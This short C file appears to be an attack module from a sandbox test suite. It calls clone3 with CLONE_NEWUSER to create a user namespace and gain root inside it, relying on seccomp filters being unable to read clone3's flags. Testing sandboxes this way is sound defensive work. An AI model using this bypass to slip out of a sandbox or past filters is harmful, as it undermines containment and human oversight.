/* Become root in a user namespace by clone3, whose flags no filter can read. */
#include "module.h"
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <sys/wait.h>

static const char *attack(void) {
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) _exit(0);
    if (pid < 0) return NULL;
    waitpid(pid, NULL, 0);
    return "root";
}
